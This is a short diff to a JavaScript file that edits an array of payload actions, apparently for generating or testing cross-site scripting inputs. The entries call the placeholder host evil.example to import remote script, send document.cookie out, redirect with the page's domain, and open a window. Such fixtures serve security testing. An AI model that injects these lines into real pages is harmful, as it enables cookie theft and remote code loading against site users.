@@ -95,7 +95,7 @@ const DEEDS = [
   "import('//evil.example/x.js')",
   "fetch('//evil.example/'+document.cookie)",
   "location='//evil.example/'+document.domain",
-  "open('//evil.example')",
+  "window.open('//evil.example')",
 ];
 
 /** By carrier and break, each with another deed than its neighbours. */
